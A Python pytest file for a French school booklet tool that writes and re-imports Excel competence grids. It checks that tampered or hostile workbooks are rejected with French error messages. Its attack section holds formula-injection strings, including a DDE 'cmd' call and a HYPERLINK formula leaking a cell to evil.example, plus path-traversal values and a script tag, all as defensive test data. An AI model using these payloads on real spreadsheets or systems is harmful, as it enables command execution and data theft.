import pytest
from openpyxl import load_workbook

from scenario_lib.pfmp import (
    Pupil,
    build_booklets,
    read_class_list,
    read_filled_workbook,
    write_booklet_workbook,
)
from scenario_lib.pfmp.booklet import booklet_id
from scenario_lib.pfmp.workbook import GridImportError
from tests.sheetcheck import live_xlsx_cells, xlsx_texts


@pytest.fixture
def booklet_file(tmp_path, class_list, ref):
    pupils = read_class_list(class_list)
    booklet = build_booklets(pupils, "premiere", ref)[0]
    return pupils, write_booklet_workbook(booklet, tmp_path / "livret.xlsx", ref)


def _cell(ws, code, column):
    for row in ws.iter_rows(min_row=2):
        if row[0].value == code:
            return row[column - 1]
    raise AssertionError(code)


def test_workbook_lists_every_official_sub_competence_and_attitude(booklet_file, ref):
    _, path = booklet_file
    wb = load_workbook(path)
    codes = [r[0].value for r in wb["Compétences"].iter_rows(min_row=2)]
    assert codes == [x for c in ref.competences for x in [c.code, *(s.code for s in c.sub_competences)]]
    titles = {r[0].value: r[1].value for r in wb["Compétences"].iter_rows(min_row=2)}
    assert all(titles[s.code] == s.title for c in ref.competences for s in c.sub_competences)
    assert [r[1].value for r in wb["Attitudes"].iter_rows(min_row=2)] == [a.title for a in ref.attitudes]
    assert wb["_spirale"].sheet_state == "hidden"


def test_filled_levels_come_back(booklet_file, ref):
    pupils, path = booklet_file
    wb = load_workbook(path)
    _cell(wb["Compétences"], "1.1.1", 4).value = "A"
    _cell(wb["Compétences"], "4B.3.2", 6).value = "e"  # lower case typed by a tutor
    _cell(wb["Compétences"], "2.1", 3).value = "Relances téléphoniques"
    wb["Attitudes"]["D3"] = "D"
    wb.save(path)
    booklet = read_filled_workbook(path, ref, pupils)
    assert booklet.levels == {"PFMP 1": {"1.1.1": "A"}, "PFMP 2": {"4B.3.2": "E"}}
    assert booklet.attitudes == {"PFMP 2": {ref.attitudes[1].code: "D"}}
    assert next(r for r in booklet.rows if r.competence == "2.1").planned["PFMP 1"] == "Relances téléphoniques"


def _broken(path, change):
    wb = load_workbook(path)
    change(wb)
    wb.save(path)


@pytest.mark.parametrize(
    "change, expected",
    [
        (
            lambda wb: _cell(wb["Compétences"], "1.2.1", 4).__setattr__("value", "B"),
            "ligne 7 (1.2.1, PFMP 1) : niveau « B » inconnu",
        ),
        (
            lambda wb: _cell(wb["Compétences"], "1.2", 4).__setattr__("value", "A"),
            "(1.2, PFMP 1) : le niveau se donne sur chaque sous-compétence",
        ),
        (lambda wb: wb["Compétences"].delete_rows(5), "lignes au lieu de"),
        (lambda wb: _cell(wb["Compétences"], "1.1.2", 1).__setattr__("value", "1.1.9"), "code « 1.1.2 » attendu"),
        (lambda wb: wb["Compétences"].cell(row=1, column=4).__setattr__("value", "Note"), "en-têtes de colonnes"),
        (lambda wb: wb["Attitudes"].delete_rows(3), "liste des attitudes a été modifiée"),
        (lambda wb: wb.remove(wb["_spirale"]), "n'est pas un livret produit par Spirale"),
        (lambda wb: wb["Compétences"].delete_rows(1, wb["Compétences"].max_row), "la feuille « Compétences » est vide"),
        (
            lambda wb: wb["_spirale"].cell(row=3, column=2).__setattr__("value", "inconnu-x"),
            "l'élève « inconnu-x » n'est pas dans la liste de la classe",
        ),
    ],
)
def test_malformed_grids_are_refused_in_french(booklet_file, ref, change, expected):
    pupils, path = booklet_file
    _broken(path, change)
    with pytest.raises(GridImportError) as err:
        read_filled_workbook(path, ref, pupils)
    assert expected in str(err.value) and "livret.xlsx" in str(err.value)


def test_not_a_workbook(tmp_path, ref, class_list):
    bad = tmp_path / "grille.xlsx"
    bad.write_text("pas un classeur")
    with pytest.raises(GridImportError, match="illisible comme classeur"):
        read_filled_workbook(bad, ref, read_class_list(class_list))


# --- attacks: teacher text in the workbook, forged hidden sheet, oversize sheets ---------------------------


HOSTILE = Pupil(
    last_name="=cmd|' /C calc'!A0",
    first_name="+1+1",
    grade="1MCVB",
    company='=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")',
    tutor="@SUM(1)\x1b",
)


def test_identity_typed_like_formulas_stays_text_and_the_grid_still_imports(tmp_path, ref):
    booklet = build_booklets([HOSTILE], "premiere", ref)[0]
    path = write_booklet_workbook(booklet, tmp_path / "livret.xlsx", ref)
    assert live_xlsx_cells(path) == []
    assert {
        "'=cmd|' /C calc'!A0",
        "'+1+1",
        '\'=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")',
        "'@SUM(1)",
    } <= xlsx_texts(path)
    wb = load_workbook(path)
    _cell(wb["Compétences"], "1.1.1", 4).value = "A"
    wb.save(path)
    assert read_filled_workbook(path, ref, [HOSTILE]).levels == {"PFMP 1": {"1.1.1": "A"}}


@pytest.fixture
def two_grids(tmp_path, class_list, ref):
    pupils = read_class_list(class_list)  # MARTIN Zoé, DURAND Léa, LEFÈVRE Anaïs
    paths = [write_booklet_workbook(b, tmp_path / f"{b.id}.xlsx", ref) for b in build_booklets(pupils, "premiere", ref)]
    return pupils, paths


def _meta(path, key, value):
    wb = load_workbook(path)
    row = next(r for r in wb["_spirale"].iter_rows() if r[0].value == key)
    row[1].value = value
    _cell(wb["Compétences"], "1.1.1", 4).value = "E"
    wb.save(path)


def test_a_grid_pointing_at_another_pupils_booklet_is_refused(two_grids, ref):
    pupils, (_, durand, _) = two_grids
    _meta(durand, "livret", booklet_id("premiere", pupils[0]))
    with pytest.raises(GridImportError, match="feuille cachée a été modifiée .* au lieu de celui de DURAND Léa"):
        read_filled_workbook(durand, ref, pupils)


def test_a_grid_claiming_another_pupil_is_refused_by_its_visible_sheet(two_grids, ref):
    pupils, (_, durand, _) = two_grids
    wb = load_workbook(durand)
    meta = {r[0].value: r[1] for r in wb["_spirale"].iter_rows()}
    meta["eleve"].value, meta["livret"].value = pupils[0].key, booklet_id("premiere", pupils[0])
    wb.save(durand)
    with pytest.raises(GridImportError) as err:
        read_filled_workbook(durand, ref, pupils)
    assert "la feuille « Élève » (Nom « Durand », Prénom « Léa »)" in str(err.value)
    assert "n'est pas le livret de cet élève" in str(err.value)


@pytest.mark.parametrize(
    "key, value, expected",
    [
        ("livret", "../../../etc/x", "feuille cachée a été modifiée"),
        ("eleve", "../../etc/passwd", "n'est pas dans la liste de la classe"),
        ("eleve", "x" * 5000, "n'est pas dans la liste de la classe"),
        ("annee", "=1+1", "année du livret illisible"),
        ("format", "99", "version de livret inconnue"),
    ],
)
def test_forged_hidden_values_give_a_french_refusal(two_grids, ref, key, value, expected):
    pupils, (martin, *_) = two_grids
    _meta(martin, key, value)
    with pytest.raises(GridImportError) as err:
        read_filled_workbook(martin, ref, pupils)
    assert expected in str(err.value) and martin.name in str(err.value) and len(str(err.value)) < 400


def test_an_oversize_sheet_is_refused_before_reading_it(two_grids, ref):
    pupils, (martin, *_) = two_grids
    wb = load_workbook(martin)
    for i in range(3000):
        wb["Compétences"].append([f"x{i}", "ligne ajoutée"])
    wb.save(martin)
    with pytest.raises(GridImportError, match="feuille « Compétences » trop longue pour un livret"):
        read_filled_workbook(martin, ref, pupils)


def test_a_zip_that_is_not_a_workbook_and_a_huge_file_are_refused(tmp_path, ref, class_list):
    import zipfile

    pupils = read_class_list(class_list)
    with zipfile.ZipFile(tmp_path / "faux.xlsx", "w") as archive:
        archive.writestr("bonjour.txt", "pas un classeur")
    with pytest.raises(GridImportError, match="illisible comme classeur XLSX"):
        read_filled_workbook(tmp_path / "faux.xlsx", ref, pupils)
    (tmp_path / "gros.xlsx").write_bytes(b"PK" + b"\0" * (3 * 1024 * 1024))
    with pytest.raises(GridImportError, match="trop volumineux pour un livret"):
        read_filled_workbook(tmp_path / "gros.xlsx", ref, pupils)


def test_markup_typed_in_an_activity_cell_is_a_french_refusal(booklet_file, ref):
    pupils, path = booklet_file
    wb = load_workbook(path)
    _cell(wb["Compétences"], "1.1", 3).value = "<script>alert(1)</script>"
    _cell(wb["Compétences"], "1.1.1", 4).value = "A"
    wb.save(path)
    with pytest.raises(GridImportError, match="balise HTML"):
        read_filled_workbook(path, ref, pupils)
